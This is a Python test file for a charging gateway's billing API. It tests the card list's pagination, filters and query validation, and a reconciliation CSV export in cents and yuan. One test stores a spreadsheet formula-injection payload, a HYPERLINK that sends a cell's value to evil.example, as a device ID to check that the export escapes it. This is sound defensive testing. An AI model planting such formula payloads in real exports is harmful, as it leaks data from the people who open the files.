"""The billing API the console needs: the card list (keyset pages, filters) and the
reconciliation's CSV (amounts in cents and yuan, no spreadsheet formulas), against
real PostgreSQL."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from chargegw.api import billing as billing_api
from chargegw.api import scopes
from chargegw.app import Gateway
from chargegw.domain import billing_store
from chargegw.domain.orders import new_order_no

from .waiting import api_client


@pytest.fixture
async def api(gateway: Gateway) -> AsyncIterator[httpx.AsyncClient]:
    async with api_client(gateway, billing_api.router) as client:
        yield client


async def _all(api: httpx.AsyncClient, **params: Any) -> tuple[list[dict[str, Any]], int]:
    """Every card of the list, following ``next_cursor``, and the number of pages."""
    items: list[dict[str, Any]] = []
    cursor = None
    pages = 0
    while True:
        query = dict(params, **({"cursor": cursor} if cursor else {}))
        response = await api.get("/api/v1/cards", params=query)
        assert response.status_code == 200, response.text
        body = response.json()
        pages += 1
        items.extend(body["items"])
        cursor = body["next_cursor"]
        if cursor is None:
            return items, pages


def _error(response: httpx.Response) -> dict[str, Any]:
    body: dict[str, Any] = response.json()["error"]
    return body


# -- the card list --


def test_the_card_list_needs_the_billing_scope() -> None:
    assert scopes.rule_for("GET", "/api/v1/cards").scope == "billing"
    assert scopes.rule_for("GET", "/api/v1/cards").listed


async def test_cards_come_in_pages_by_number_with_filters(api: httpx.AsyncClient) -> None:
    numbers = ["0A0001", "0A0002", "0A0103", "0B0001", "FF", "0A0004", "1234ABCD"]
    for index, number in enumerate(numbers):
        body = {"card_id": number, "holder": f"holder {index}", "balance_cent": index * 100}
        assert (await api.post("/api/v1/cards", json=body)).status_code == 201
    for number in ("0A0002", "FF"):
        assert (await api.post(f"/api/v1/cards/{number}/block")).status_code == 200

    items, pages = await _all(api, limit=3)
    assert [c["card_id"] for c in items] == sorted(numbers)
    assert pages == 3
    first = items[0]
    assert set(first) == {
        "card_id",
        "status",
        "balance_cent",
        "holder",
        "created_at",
        "updated_at",
    }  # no transactions in the list
    assert first == {**first, "card_id": "0A0001", "status": "active", "balance_cent": 0}

    # a prefix of the number, any case; an odd number of digits is a prefix too
    prefixed, _ = await _all(api, q="0a0", limit=2)
    assert [c["card_id"] for c in prefixed] == ["0A0001", "0A0002", "0A0004", "0A0103"]
    assert [c["card_id"] for c in (await _all(api, q="0A01"))[0]] == ["0A0103"]
    assert (await _all(api, q="0C"))[0] == []
    blocked, _ = await _all(api, status="blocked")
    assert [c["card_id"] for c in blocked] == ["0A0002", "FF"]
    assert all(c["status"] == "blocked" for c in blocked)
    active, _ = await _all(api, status="active", q="0A", limit=1)
    assert [c["card_id"] for c in active] == ["0A0001", "0A0004", "0A0103"]

    # the default page holds them all; the last page has no cursor
    page = (await api.get("/api/v1/cards")).json()
    assert len(page["items"]) == len(numbers) and page["next_cursor"] is None
    # a balance changed by a top-up shows in the list
    await api.post("/api/v1/cards/FF/top-up", json={"amount_cent": 250})
    ff = (await api.get("/api/v1/cards", params={"q": "ff"})).json()["items"]
    assert [(c["card_id"], c["balance_cent"], c["status"]) for c in ff] == [("FF", 650, "blocked")]


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"q": "0G"}, "q"),
        ({"q": ""}, "q"),
        ({"q": "0" * 65}, "q"),
        ({"status": "lost"}, "status"),
        ({"limit": 0}, "limit"),
        ({"cursor": "!!!not-base64!!!"}, "cursor"),
    ],
)
async def test_bad_card_list_queries_are_422_naming_the_parameter(
    api: httpx.AsyncClient, params: dict[str, Any], field: str
) -> None:
    response = await api.get("/api/v1/cards", params=params)
    assert response.status_code == 422, response.text
    assert _error(response)["field"] == field


async def test_a_cursor_of_another_list_is_refused(api: httpx.AsyncClient) -> None:
    raw = json.dumps({"k": "devices", "v": ["0A"]}).encode()
    cursor = base64.urlsafe_b64encode(raw).decode().rstrip("=")
    response = await api.get("/api/v1/cards", params={"cursor": cursor})
    assert response.status_code == 422
    assert "not a cursor of this list" in _error(response)["message"]


# -- the reconciliation as CSV --


def test_cells_that_start_like_a_formula_are_quoted_as_text() -> None:
    assert [billing_store.csv_cell(v) for v in ("=1+1", "+86", "-2", "@SUM(A1)", "\tx")] == [
        "'=1+1",
        "'+86",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
    ]
    assert [billing_store.csv_cell(v) for v in (None, 0, 12, "04C0A001", "a=b", 1.5)] == [
        "",
        "0",
        "12",
        "04C0A001",
        "a=b",
        "1.5",
    ]
    assert [billing_store.yuan(c) for c in (0, 5, 99, 100, 12345, -5, -120)] == [
        "0.00",
        "0.05",
        "0.99",
        "1.00",
        "123.45",
        "-0.05",
        "-1.20",
    ]


async def _settled(
    gateway: Gateway,
    *,
    device_id: str,
    amount: int,
    charged: int,
    card_id: str | None,
    at: datetime,
    plan: str | None = "per_hour-plan",
) -> str:
    """A settled order and its price, as a settlement leaves them."""
    order_no = new_order_no()
    assert gateway.pool is not None
    async with gateway.pool.acquire() as conn, conn.transaction():
        await conn.execute(
            """INSERT INTO orders (order_no, device_id, port, protocol, status, start_mode,
                                   card_id, started_at, ended_at, duration_s, energy_kwh,
                                   max_power_w, amount_cent)
               VALUES ($1, $2, 1, 'ap3000', 'settled', $3, $4, $5, $6, 3600, 1.25, 180.0, $7)""",
            order_no,
            device_id,
            "card" if card_id else "online",
            card_id,
            at - timedelta(hours=1),
            at,
            amount,
        )
        await conn.execute(
            """INSERT INTO order_charges (order_no, plan, kind, inputs, amount_cent, card_id,
                                          card_charged_cent, shortfall_cent, settled_at)
               VALUES ($1, $2, 'per_hour', $3, $4, $5, $6, $7, $8)""",
            order_no,
            plan,
            json.dumps({"kind": "per_hour", "billed_minutes": 60}),
            amount,
            card_id,
            charged,
            amount - charged,
            at,
        )
    return order_no


async def test_the_reconciliation_csv_has_yuan_and_no_formulas(
    gateway: Gateway, api: httpx.AsyncClient
) -> None:
    day = datetime.now(UTC).date()
    noon = datetime(day.year, day.month, day.day, 12, tzinfo=UTC)
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    first = await _settled(
        gateway, device_id="04C0A001", amount=1234, charged=1000, card_id="0A1B2C3D", at=noon
    )
    second = await _settled(
        gateway,
        device_id=hostile,
        amount=5,
        charged=0,
        card_id="@card",
        at=noon + timedelta(minutes=1),
        plan="-1+1",
    )
    # the day after is another report
    await _settled(
        gateway,
        device_id="04C0A001",
        amount=77,
        charged=0,
        card_id=None,
        at=noon + timedelta(days=1),
    )

    response = await api.get(
        "/api/v1/reports/reconciliation", params={"date": day.isoformat(), "format": "csv"}
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        response.headers["content-disposition"]
        == f'attachment; filename="reconciliation-{day.isoformat()}.csv"'
    )
    reader = csv.reader(io.StringIO(response.text))
    header = next(reader)
    assert tuple(header) == billing_store.CSV_COLUMNS
    assert header[header.index("amount_cent") + 1] == "amount_yuan"
    rows = [dict(zip(header, line, strict=True)) for line in reader]
    assert len(rows) == 3
    one, two, total = rows
    assert one["order_no"] == first and one["device_id"] == "04C0A001"
    assert (one["amount_cent"], one["amount_yuan"]) == ("1234", "12.34")
    assert (one["card_charged_cent"], one["card_charged_yuan"]) == ("1000", "10.00")
    assert (one["shortfall_cent"], one["shortfall_yuan"]) == ("234", "2.34")
    assert json.loads(one["inputs"]) == {"kind": "per_hour", "billed_minutes": 60}
    # device-provided text cannot become a formula in a spreadsheet
    assert two["order_no"] == second
    assert two["device_id"] == "'" + hostile
    assert two["card_id"] == "'@card" and two["plan"] == "'-1+1"
    assert (two["amount_cent"], two["amount_yuan"]) == ("5", "0.05")
    assert total["order_no"] == "TOTAL"
    assert (total["amount_cent"], total["amount_yuan"]) == ("1239", "12.39")
    assert (total["card_charged_cent"], total["card_charged_yuan"]) == ("1000", "10.00")
    assert (total["shortfall_cent"], total["shortfall_yuan"]) == ("239", "2.39")
    assert json.loads(total["inputs"]) == {"orders": 2}
    assert total["device_id"] == "" and total["port"] == ""

    # the JSON report is the same orders, unquoted
    report = (
        await api.get("/api/v1/reports/reconciliation", params={"date": day.isoformat()})
    ).json()
    assert [item["device_id"] for item in report["items"]] == ["04C0A001", hostile]
    assert report["totals"] == {
        "orders": 2,
        "amount_cent": 1239,
        "card_charged_cent": 1000,
        "shortfall_cent": 239,
    }


async def test_an_empty_day_is_a_header_and_a_zero_total(api: httpx.AsyncClient) -> None:
    response = await api.get(
        "/api/v1/reports/reconciliation", params={"date": "2020-01-01", "format": "csv"}
    )
    assert response.status_code == 200
    lines = list(csv.reader(io.StringIO(response.text)))
    assert tuple(lines[0]) == billing_store.CSV_COLUMNS
    total = dict(zip(lines[0], lines[1], strict=True))
    assert len(lines) == 2 and total["order_no"] == "TOTAL"
    assert (total["amount_cent"], total["amount_yuan"]) == ("0", "0.00")
    bad = await api.get(
        "/api/v1/reports/reconciliation", params={"date": "2020-01-01", "format": "xlsx"}
    )
    assert bad.status_code == 422 and _error(bad)["field"] == "format"
